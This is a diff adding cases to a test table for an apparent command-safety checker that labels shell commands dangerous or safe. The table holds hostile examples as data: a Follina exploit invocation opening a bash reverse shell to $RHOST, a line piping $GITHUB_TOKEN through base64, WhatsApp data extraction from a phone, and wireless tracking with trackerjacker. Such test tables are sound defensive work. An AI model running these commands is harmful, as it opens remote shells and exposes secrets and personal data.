@@ -3967,6 +3967,17 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['./test/smoke/interact.sh interaction-shots', false],
     ['python3 extract.py -U -f com.whatsapp.WhatsApp --app-data', true, 'phone over USB'],
     ['cpanm -U -f Test::LeakTrace', false],
+    // A wireless interface handed over; a file of targets without an extension; a Makefile's clone's script and git.
+    ['trackerjacker -i wlan1337 --map', true, 'wireless interface'],
+    ['ip link show lo', false],
+    ['cat urls | exifLooter --pipe', true, 'sites or hosts listed in urls'],
+    ['$(OFFIMG_LOCAL_CLONE)/test/run.sh -c test/postgis-config.sh', false],
+    ['$(GIT) clone $(OFFIMG_REPO_URL) $(OFFIMG_LOCAL_CLONE)', false],
+    ['"$(KERNEL_DIR)"/scripts/sign-file sha256 $(KEY) $(CERT) x.ko', true, 'computed'],
+    // A variable naming where a secret lies, and a pattern, are not secrets.
+    ['printf "[I] Waiting for %s" "$SECRET_YML_PATH"', false],
+    ['[[ $identities =~ $pat ]]', false],
+    ['echo "$GITHUB_TOKEN" | base64', true, 'GITHUB_TOKEN'],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
